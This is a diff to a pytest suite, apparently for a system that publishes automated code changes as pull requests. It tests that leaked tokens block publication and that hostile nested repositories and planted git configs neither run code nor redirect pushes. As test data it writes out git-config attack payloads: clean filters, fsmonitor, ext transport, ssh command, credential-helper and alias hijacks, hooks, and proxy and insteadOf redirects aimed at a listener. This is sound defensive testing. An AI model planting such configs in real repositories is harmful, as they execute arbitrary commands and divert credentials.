@@ -6,27 +6,37 @@ overwritten, and no credential left behind in the clone or in any artifact."""
 from __future__ import annotations
 
 import base64
+import dataclasses
 import json
+import os
 import re
+import shutil
+import socket
+import subprocess
 import threading
-from collections.abc import Iterator, Mapping
+from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
 from datetime import timedelta
 from decimal import Decimal
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, cast
 
 import boto3
 import pytest
+from moto import mock_aws
 from steward.adapters.artifact_store import ArtifactStore
-from steward.adapters.git import GitError, run_git
+from steward.adapters.dynamo import Tables
+from steward.adapters.git import GitError, basic_header, remote_git, run_git
 from steward.adapters.github import GitHubApp, GitHubError
+from steward.adapters.runtime_api import RuntimeApi
 from steward.adapters.task_store import TaskStore
 from steward.config import Settings
 from steward.domain.models import Task, TaskStatus, utcnow
-from steward.domain.redaction import redact
+from steward.domain.redaction import Redactor, redact
 from steward.local.github_twin import GitHubTwin
+from steward.local.moto_serial import install_dynamodb_lock
+from steward.runner.config import RunnerConfig
+from steward.runner.run import Run
 from steward.services.publication import STAGES, Publisher, PublishError, PublishResult, StageHook
 from steward.wiring import Services
 
@@ -82,12 +92,16 @@ class Kit:
     installation: int
     tokens: Tokens
     root: Path
+    template: Path | None = None  # a clone of main to copy instead of cloning again
 
     def clone(self, name: str, *, branch: str | None = None, tokens: Tokens | None = None) -> Path:
         """A clone as the runner's bootstrap makes it: over HTTP, the token in the header;
         `root/name/clone`, so its artifacts go to `root/name/artifacts`."""
         where = self.root / name
         where.mkdir(parents=True)
+        if self.template is not None and branch is None and tokens is None:
+            shutil.copytree(self.template, where / "clone", symlinks=True)
+            return where / "clone"
         url = self.app.git_url(REPO)
         args = ["clone", "--quiet", *(["--branch", branch] if branch else []), url, "clone"]
         run_git(args, cwd=where, token=(tokens or self.tokens)(), token_url=url)
@@ -127,7 +141,8 @@ class Kit:
         return self.publisher(app, upload=upload).publish(self.task, clone, **(arguments | kwargs))
 
     def pull_numbers(self) -> list[int]:
-        return [int(p["number"]) for p in self.twin.pulls(REPO)]
+        """The pull requests of this kit's task (its branch is the head)."""
+        return [int(p["number"]) for p in self.twin.pulls(REPO) if p["head"]["ref"] == self.task.branch]
 
     def branch(self) -> str | None:
         return self.twin.branch_sha(REPO, self.task.branch)
@@ -155,6 +170,49 @@ def kit(services: Services, settings: Settings, tmp_path: Path) -> Iterator[Kit]
         with GitHubApp(twin.app_id, twin.app_private_key_pem, base_url=twin.url, sleep=lambda _: None) as app:
             tokens = Tokens(app, installation)
             yield Kit(twin, app, services, artifacts, task, installation, tokens, tmp_path)
+
+
+@pytest.fixture(scope="module")
+def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kit]:
+    """One twin, App and moto for a module's worth of hostile cases (each gets its own task
+    from `hostile`): the cases are many, and a twin per case would cost most of their time."""
+    root = tmp_path_factory.mktemp("hostile")
+    with pytest.MonkeyPatch.context() as env:
+        for name in ("AWS_PROFILE", "AWS_SESSION_TOKEN", "AWS_ENDPOINT_URL"):
+            env.delenv(name, raising=False)
+        env.setenv("AWS_ACCESS_KEY_ID", "testing")
+        env.setenv("AWS_SECRET_ACCESS_KEY", "testing")
+        env.setenv("AWS_DEFAULT_REGION", REGION)
+        install_dynamodb_lock()
+        with mock_aws(), GitHubTwin(root / "twin") as twin:
+            settings = Settings(table_prefix="test-", artifacts_bucket="test-artifacts")
+            tables = Tables.connect(settings.table_prefix, region_name=REGION)
+            tables.create_all()
+            s3 = boto3.client("s3", region_name=REGION)
+            s3.create_bucket(Bucket=settings.artifacts_bucket)
+            artifacts = ArtifactStore(settings.artifacts_bucket, client=s3)
+            services = Services.build(settings, tables, artifacts)
+            twin.create_repo(REPO, {"README.md": "# demo\n", "app.py": "print('hello')\n"})
+            installation = twin.create_installation("octo", [REPO])
+            with GitHubApp(
+                twin.app_id, twin.app_private_key_pem, base_url=twin.url, sleep=lambda _: None
+            ) as app:
+                tokens = Tokens(app, installation)
+                kit = Kit(twin, app, services, artifacts, cast(Task, None), installation, tokens, root)
+                kit.template = kit.clone("template")
+                yield kit
+
+
+@pytest.fixture
+def hostile(shared: Kit, tmp_path: Path) -> Kit:
+    """A Kit on the shared twin with a task of its own (its own branch and pull request)."""
+    slug = f"hostile-{tmp_path.name[-40:]}".lower().replace("_", "-")
+    services = shared.services
+    services.plans.publish("alice", slug, document("Greet the world politely", repo=REPO))
+    spawned, _ = spawn_item(services, services.plans.confirm("alice", slug), 1)
+    now = utcnow()
+    task = services.tasks.tasks.claim(spawned, runtime_id="r1", now=now, deadline=now + timedelta(hours=1))
+    return dataclasses.replace(shared, task=task, root=tmp_path)
 
 
 def stages_of(clone: Path) -> dict[str, Any]:
@@ -247,7 +305,7 @@ def test_no_changes_is_refused_and_nothing_is_pushed(kit: Kit) -> None:
     assert (caught.value.stage, caught.value.reason) == ("commit", "no_changes")
     assert "no changes" in caught.value.message
     recorded = stages_of(clone)
-    assert list(recorded) == ["stage", "record", "commit"]
+    assert list(recorded) == ["stage", "record", "scan", "commit"]
     assert recorded["commit"]["status"] == "refused"
     assert kit.branch() is None
     assert kit.pull_numbers() == []
@@ -403,9 +461,9 @@ def test_a_superseded_task_opens_no_second_pull_request(kit: Kit) -> None:
         cost_usd=Decimal("0.01"),
         token_provider=kit.tokens,
     )
-    assert len(kit.pull_numbers()) == 1
-    [pull] = kit.twin.pulls(REPO)
+    [pull] = kit.twin.pulls(REPO)  # the one pull request of the checkbox
     assert pull["head"]["ref"] == new.branch
+    assert kit.pull_numbers() == []  # none from the superseded task
 
 
 def push_foreign(kit: Kit, *, email: str, message: str) -> str:
@@ -416,14 +474,15 @@ def push_foreign(kit: Kit, *, email: str, message: str) -> str:
     identity = {"GIT_AUTHOR_NAME": "Human", "GIT_AUTHOR_EMAIL": email}
     identity |= {"GIT_COMMITTER_NAME": "Human", "GIT_COMMITTER_EMAIL": email}
     run_git(["commit", "--quiet", "--file=-"], cwd=other, env=identity, input_text=message)
+    head = git(other, "rev-parse", "HEAD")
     url = kit.app.git_url(REPO)
-    run_git(
-        ["push", "--quiet", url, f"HEAD:refs/heads/{kit.task.branch}"],
-        cwd=other,
+    remote_git(
+        ["push", "--quiet", url, f"{head}:refs/heads/{kit.task.branch}"],
+        borrow=other,
         token=kit.tokens(),
         token_url=url,
     )
-    return git(other, "rev-parse", "HEAD")
+    return head
 
 
 @pytest.mark.parametrize(
@@ -482,9 +541,10 @@ def test_an_earlier_bot_commit_of_the_task_is_built_upon_not_overwritten(kit: Ki
 def test_a_remote_branch_behind_our_commit_is_fast_forwarded(kit: Kit) -> None:
     clone = kit.worked_clone()
     url = kit.app.git_url(REPO)
-    run_git(
-        ["push", "--quiet", url, f"HEAD:refs/heads/{kit.task.branch}"],
-        cwd=clone,
+    head = git(clone, "rev-parse", "HEAD")
+    remote_git(
+        ["push", "--quiet", url, f"{head}:refs/heads/{kit.task.branch}"],
+        borrow=clone,
         token=kit.tokens(),
         token_url=url,
     )
@@ -496,23 +556,67 @@ def test_a_remote_branch_behind_our_commit_is_fast_forwarded(kit: Kit) -> None:
 # ---- credentials
 
 
-def test_no_credential_reaches_any_artifact_even_when_the_run_wrote_one(kit: Kit) -> None:
-    clone = kit.worked_clone()
-    leaked = kit.tokens()  # a live token the run got hold of and wrote into its work
-    (clone / "leak.txt").write_text(f"token={leaked}\nheader={BASIC_PREFIX}Zm9vYmFy\n")
+def test_the_pull_request_and_the_commit_are_redacted(hostile: Kit) -> None:
+    kit = hostile
+    leaked = kit.tokens()  # a live token in the item's title, the run's summary and a check
+    kit.task = kit.task.model_copy(update={"title": f"Rotate {leaked} before Friday"})
+    held = "held-capability-value"  # a secret the runtime holds, not shaped like a token
     result = kit.publish(
-        clone,
+        kit.worked_clone(),
         upload=True,
-        summary=f"Used {leaked} to look around.",
+        redactor=Redactor([held]),
+        summary=f"Used {leaked} and {held} to look around.",
         checks=[{"command": f"curl -H 'Authorization: token {leaked}'", "exit_status": 0, "duration_s": 1}],
     )
-    body = kit.twin.pull(REPO, result.pr_number)["body"]
-    assert_clean(body, kit.tokens)
-    assert "Used [REDACTED] to look around." in body
-    assert "+token=[REDACTED]" in (clone.parent / "artifacts" / "diff.patch").read_text()
-    assert_nothing_persisted(clone, kit.tokens)
+    pull = kit.twin.pull(REPO, result.pr_number)
+    assert pull["title"] == "Rotate [REDACTED] before Friday"
+    assert "Used [REDACTED] and [REDACTED] to look around." in pull["body"]
+    message = git(kit.root / "run" / "clone", "log", "-1", "--format=%B")
+    assert message.splitlines()[0] == "Rotate [REDACTED] before Friday", message
+    for text in (pull["title"], pull["body"], message):
+        assert_clean(text, kit.tokens)
+        assert held not in text
+    assert_nothing_persisted(kit.root / "run" / "clone", kit.tokens)
+
+
+HELD = "held-capability-value"  # what the runtime holds besides tokens (capability, ticket)
+# How a credential reaches a change: (path written, its content); `{token}` is a live
+# installation token, `{basic}` its Basic header, `{held}` HELD. One line per way.
+LEAKS: dict[str, tuple[str, str]] = {
+    "a live token in a new file": ("notes/leak.txt", "token={token}\n"),
+    "its Basic header added to a tracked file": ("app.py", "print('hello, world')\n# {basic}\n"),
+    "a held secret that is not token-shaped": ("settings.json", '{{"capability": "{held}"}}\n'),
+    "a token as a file name": ("docs/{token}.md", "nothing secret inside\n"),
+    "a token in a file .gitattributes calls binary": ("blob.bin", "\0\0binary {token}\0"),
+}
+
+
+@pytest.mark.parametrize("leak", LEAKS, ids=list(LEAKS))
+def test_a_credential_in_the_change_refuses_publication_and_pushes_nothing(hostile: Kit, leak: str) -> None:
+    kit = hostile
+    clone = kit.worked_clone()
+    token = kit.tokens()  # live: it would still authenticate wherever it was pushed
+    (clone / ".gitattributes").write_text("*.bin -diff\n")
+    where, content = (part.format(token=token, basic=basic_header(token), held=HELD) for part in LEAKS[leak])
+    (clone / where).parent.mkdir(parents=True, exist_ok=True)
+    (clone / where).write_bytes(content.encode("latin-1"))
+
+    with pytest.raises(PublishError) as caught:
+        kit.publish(clone, upload=True, redactor=Redactor([HELD]))
+    assert (caught.value.stage, caught.value.reason) == ("scan", "credential")
+    assert redact(where, [token]) in caught.value.message  # the file, by a name that is safe to show
+    assert_clean(caught.value.message, kit.tokens)
+    assert kit.branch() is None
+    assert kit.pull_numbers() == []
+    recorded = stages_of(clone)
+    assert list(recorded)[-1] == "scan"
+    assert recorded["scan"]["status"] == "refused"
+    diff = kit.artifacts.read_text(kit.task.id, "diff.patch") or ""
+    assert "+print('hello, world')" in diff  # the work is kept, redacted
     for name in ("publish.json", "diff.patch", "git-status.txt"):
-        assert_clean(kit.artifacts.read_text(kit.task.id, name) or "", kit.tokens)
+        text = kit.artifacts.read_text(kit.task.id, name) or ""
+        assert_clean(text, kit.tokens)
+        assert HELD not in text
 
 
 def test_no_token_in_git_config_or_in_any_exception(kit: Kit) -> None:
@@ -527,7 +631,7 @@ def test_no_token_in_git_config_or_in_any_exception(kit: Kit) -> None:
     kit.twin.expire_token(expired)
     url = kit.app.git_url(REPO)
     with pytest.raises(GitError) as caught:
-        run_git(["ls-remote", url], cwd=clone, token=expired, token_url=url)
+        remote_git(["ls-remote", url], token=expired, token_url=url)
     assert_clean(str(caught.value) + caught.value.stderr, kit.tokens)
 
     # A push that fails inside publication: the stage records the error, redacted.
@@ -545,50 +649,240 @@ def test_no_token_in_git_config_or_in_any_exception(kit: Kit) -> None:
     assert_nothing_persisted(clone, kit.tokens)
 
 
-class Recorder(BaseHTTPRequestHandler):
-    """An HTTP server that must never see a token: records every Authorization header."""
-
-    seen: list[str | None] = []
-
-    def do_GET(self) -> None:
-        type(self).seen.append(self.headers.get("Authorization"))
-        self.send_response(404)
-        self.send_header("Content-Length", "0")
-        self.end_headers()
-
-    def log_message(self, *_: Any) -> None:
-        pass
+# ---- untrusted trees (DESIGN section 10: nothing the model or a check writes runs)
 
 
-def test_a_planted_config_cannot_redirect_the_token_or_run_hooks(kit: Kit) -> None:
+class Listener:
+    """A TCP server on loopback that must never be contacted: it records the first bytes of
+    every connection (an HTTP request, a proxy request, a TLS hello) and closes it."""
+
+    def __init__(self) -> None:
+        self.seen: list[bytes] = []
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self.socket.getsockname()[1]}"
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                return
+            with connection:
+                connection.settimeout(2)
+                try:
+                    self.seen.append(connection.recv(65536))
+                except OSError:
+                    self.seen.append(b"")
+
+    def close(self) -> None:
+        self.socket.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.close()
+
+
+def plain_git(cwd: Path, *args: str) -> None:
+    """git as a check runs it: a plain subprocess, none of Steward's hardening."""
+    env = {"PATH": os.environ["PATH"], "HOME": str(cwd), "GIT_CONFIG_NOSYSTEM": "1"}
+    env |= {
+        "GIT_AUTHOR_NAME": "c",
+        "GIT_AUTHOR_EMAIL": "c@x",
+        "GIT_COMMITTER_NAME": "c",
+        "GIT_COMMITTER_EMAIL": "c@x",
+    }
+    subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True)
+
+
+def nested_repository(root: Path, where: str, sentinel: Path) -> None:
+    """What the check of the issue did: `git init <where>` with a clean filter that writes
+    `sentinel`, a committed file made stat-dirty (git would clean it again) and an untracked
+    `.gitattributes` naming the filter."""
+    repo = root / where
+    repo.mkdir(parents=True)
+    plain_git(repo, "init", "-q")
+    (repo / "f").write_text("x\n")
+    plain_git(repo, "add", "f")
+    plain_git(repo, "commit", "-q", "-m", "f")
+    plain_git(repo, "config", "filter.evil.clean", f"touch {sentinel}; cat")
+    (repo / ".gitattributes").write_text("* filter=evil\n")
+    os.utime(repo / "f", (1_000_000_000, 1_000_000_000))
+
+
+def gitfile(root: Path, where: str, sentinel: Path) -> None:
+    """A `.git` file pointing at the clone's own git directory."""
+    (root / where).mkdir(parents=True)
+    (root / where / ".git").write_text(f"gitdir: {root / '.git'}\n")
+
+
+def bare_repository(root: Path, where: str, sentinel: Path) -> None:
+    """A bare repository as plain files, its config naming a program for whoever enters it."""
+    plain_git(root, "init", "-q", "--bare", where)
+    plain_git(root / where, "config", "core.fsmonitor", f"touch {sentinel}")
+
+
+def uppercase_git(root: Path, where: str, sentinel: Path) -> None:
+    """`.GIT`: git on Linux might take it for a name, a case-folding filesystem for `.git`."""
+    nested_repository(root, where, sentinel)
+    (root / where / ".git").rename(root / where / ".GIT")
+
+
+# A tree a check left behind: (the path the hostile repository is at, how it was made).
+# Publication refuses each; nothing in it ever runs; it is never pushed.
+HOSTILE_TREES: dict[str, tuple[str, Callable[[Path, str, Path], None]]] = {
+    "a nested repository with a clean filter": ("evil", nested_repository),
+    "a nested repository deep in the tree": ("src/vendor/evil", nested_repository),
+    "a .git file pointing at the clone's git directory": ("sub", gitfile),
+    "a nested bare repository": ("fixtures/evil.git", bare_repository),
+    "a nested repository spelled .GIT": ("loud", uppercase_git),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE_TREES, ids=list(HOSTILE_TREES))
+def test_a_nested_repository_never_runs_and_is_never_published(hostile: Kit, case: str) -> None:
+    kit = hostile
     clone = kit.worked_clone()
-    Recorder.seen = []
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    try:
-        evil = f"http://127.0.0.1:{server.server_address[1]}/steal/"
-        marker = clone.parent / "hook-ran"
-        hooks = clone.parent / "hooks"
-        hooks.mkdir()
-        for hook in ("pre-commit", "commit-msg", "post-commit", "pre-push"):
-            (hooks / hook).write_text(f"#!/bin/sh\ntouch {marker}\n")
-            (hooks / hook).chmod(0o755)
-        with (clone / ".git" / "config").open("a") as config:
-            config.write(f'[url "{evil}"]\n\tinsteadOf = {kit.app.git_url(REPO)}\n')
-            config.write(f"[core]\n\thooksPath = {hooks}\n")
-            config.write("[credential]\n\thelper = store\n")
+    sentinel = kit.root / "sentinel"
+    where, make = HOSTILE_TREES[case]
+    make(clone, where, sentinel)
 
-        with pytest.raises(GitError):
-            kit.publish(clone)
-        assert Recorder.seen  # git did go there (the rewrite applied) ...
-        assert set(Recorder.seen) == {None}  # ... without the header, scoped to the real URL
-        assert stages_of(clone)["commit"]["status"] == "ok"
-        assert not marker.exists()  # no hook ran, although the commit was made
-        assert kit.branch() is None
-    finally:
-        server.shutdown()
-        server.server_close()
+    with pytest.raises(PublishError) as caught:
+        kit.publish(clone, upload=True)
+    assert (caught.value.stage, caught.value.reason) == ("scan", "nested_repository")
+    assert where in caught.value.message
+    assert not sentinel.exists(), "a program the tree named ran"
+    assert kit.branch() is None
+    assert kit.pull_numbers() == []
+    assert "160000" not in git(clone, "ls-files", "--stage")  # no gitlink was ever staged
+    diff = kit.artifacts.read_text(kit.task.id, "diff.patch") or ""
+    assert "+print('hello, world')" in diff  # the rest of the work stays reviewable
+    assert "Subproject commit" not in diff
+
+
+@pytest.mark.parametrize("case", HOSTILE_TREES, ids=list(HOSTILE_TREES))
+def test_the_failure_path_runs_nothing_a_nested_repository_names(hostile: Kit, case: str) -> None:
+    kit = hostile
+    # A run that ends without publishing (a failed check) keeps its work as diff.patch.
+    clone = kit.worked_clone()
+    sentinel = kit.root / "sentinel"
+    where, make = HOSTILE_TREES[case]
+    make(clone, where, sentinel)
+    config = RunnerConfig(
+        task_id=kit.task.id, ticket="ticket-value", api_url="http://x", relay_url="http://x"
+    )
+    run = Run(
+        config,
+        kit.task,
+        "r1",
+        "capability-value",
+        artifacts=kit.artifacts,
+        api=RuntimeApi("http://127.0.0.1:9", "http://127.0.0.1:9"),
+        redactor=Redactor(),
+    )
+    run._write_artifacts(clone, preserve=True)
+    assert not sentinel.exists(), "a program the tree named ran"
+    diff = kit.artifacts.read_text(kit.task.id, "diff.patch") or ""
+    assert "+print('hello, world')" in diff
+    assert "Subproject commit" not in diff
+    assert "160000" not in git(clone, "ls-files", "--stage")
+
+
+# A config planted in the clone's `.git/config`, and files beside it: `{twin}` is the twin's
+# base URL, `{url}` the repository's, `{listener}` a server that must never be contacted,
+# `{sentinel}` a file no program may create, `{home}` the clone's parent. Publication must go
+# on as if nothing were planted. One line (or two) per attack.
+PLANTED: dict[str, tuple[str, dict[str, str]]] = {
+    "a url-specific proxy": ('[http "{twin}/"]\n\tproxy = {listener}\n', {}),
+    "a proxy without TLS verification": ('[http "{twin}/"]\n\tsslVerify = false\n\tproxy = {listener}\n', {}),
+    "a proxy for the remote named by its url": ('[remote "{url}"]\n\tproxy = {listener}\n', {}),
+    "a push url": ('[remote "{url}"]\n\tpushurl = {listener}/x.git\n', {}),
+    "insteadOf": ('[url "{listener}/"]\n\tinsteadOf = {twin}/\n', {}),
+    "pushInsteadOf, redirects followed": (
+        '[url "{listener}/"]\n\tpushInsteadOf = {twin}/\n[http "{listener}/"]\n\tfollowRedirects = true\n',
+        {},
+    ),
+    "an included config": (
+        "[include]\n\tpath = {home}/planted.cfg\n",
+        {"planted.cfg": '[http "{twin}/"]\n\tproxy = {listener}\n'},
+    ),
+    "the ext transport": (
+        '[protocol "ext"]\n\tallow = always\n[url "ext::sh -c touch% {sentinel}"]\n\tinsteadOf = {url}\n',
+        {},
+    ),
+    "an ssh command": (
+        '[protocol "ssh"]\n\tallow = always\n[url "ssh://evil/"]\n\tinsteadOf = {twin}/\n'
+        "[core]\n\tsshCommand = touch {sentinel}\n",
+        {},
+    ),
+    "a url-specific credential helper": ('[credential "{twin}"]\n\thelper = !touch {sentinel}\n', {}),
+    "aliases": ("[alias]\n\tpush = !touch {sentinel}\n\tls-remote = !touch {sentinel}\n", {}),
+    "hooks": (
+        "[core]\n\thooksPath = {home}/hooks\n",
+        {
+            f"hooks/{h}": "#!/bin/sh\ntouch {sentinel}\n"
+            for h in ("pre-commit", "commit-msg", "post-commit", "pre-push", "reference-transaction")
+        },
+    ),
+    "an fsmonitor": ("[core]\n\tfsmonitor = touch {sentinel}\n", {}),
+    "a work tree elsewhere": (
+        "[core]\n\tworktree = {home}/elsewhere\n",
+        {"elsewhere/stolen.txt": "a host file\n"},
+    ),
+    "a clean filter .gitattributes names": (
+        '[filter "evil"]\n\tclean = touch {sentinel}; cat\n',
+        {"clone/.gitattributes": "* filter=evil\n"},
+    ),
+    "a textconv and an external diff": (
+        '[diff "evil"]\n\ttextconv = touch {sentinel}; cat\n[diff]\n\texternal = touch {sentinel}\n',
+        {"clone/.gitattributes": "*.py diff=evil\n"},
+    ),
+}
+
+
+@pytest.mark.parametrize("case", PLANTED, ids=list(PLANTED))
+def test_a_planted_config_changes_nothing_publication_does(
+    hostile: Kit, listener: Listener, case: str
+) -> None:
+    kit = hostile
+    clone = kit.worked_clone()
+    sentinel = kit.root / "sentinel"
+    values = {
+        "twin": kit.twin.url.rstrip("/"),
+        "url": kit.app.git_url(REPO),
+        "listener": listener.url,
+        "sentinel": str(sentinel),
+        "home": str(clone.parent),
+    }
+    config, files = PLANTED[case]
+    for name, text in files.items():
+        path = clone.parent / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text.format(**values))
+        path.chmod(0o755)
+    with (clone / ".git" / "config").open("a") as planted:
+        planted.write(config.format(**values))
+
+    try:
+        result: PublishResult | None = kit.publish(clone)
+    except GitError as error:  # what a planted config did to git, when it did something
+        result, failure = None, error
+    assert not sentinel.exists(), "a program the planted config named ran"
+    assert listener.seen == [], (
+        f"a request went where the planted config pointed: {redact(listener.seen[0].decode('latin-1'))[:300]!r}"
+    )
+    assert result is not None, failure
+    assert kit.branch() == result.sha
+    pushed = git(clone, "ls-tree", "-r", "--name-only", result.sha).splitlines()
+    assert {"app.py", "docs/greeting.md"} <= set(pushed)  # the run's work, and only the clone's
+    assert "stolen.txt" not in pushed
+    assert git(clone, "show", f"{result.sha}:app.py") == "print('hello, world')"
+    assert kit.pull_numbers() == [result.pr_number]
+    assert all(r["status"] == "ok" for r in stages_of(clone).values())
 
 
 def test_run_git_redacts_what_it_returns_and_raises(tmp_path: Path) -> None:
@@ -607,4 +901,6 @@ def test_run_git_redacts_what_it_returns_and_raises(tmp_path: Path) -> None:
     )
     assert redact("held: s3cr3t-value.", ["s3cr3t-value"]) == "held: [REDACTED]."
     with pytest.raises(ValueError, match="argv"):
-        run_git(["ls-remote", f"http://x-access-token:{secret}@127.0.0.1/r.git"], cwd=tmp_path, token=secret)
+        remote_git(["ls-remote", f"http://x-access-token:{secret}@127.0.0.1/r.git"], token=secret)
+    with pytest.raises(ValueError, match="RemoteRepository"):  # never in a clone: its config would apply
+        run_git(["ls-remote", "http://127.0.0.1/r.git"], cwd=tmp_path, token=secret)
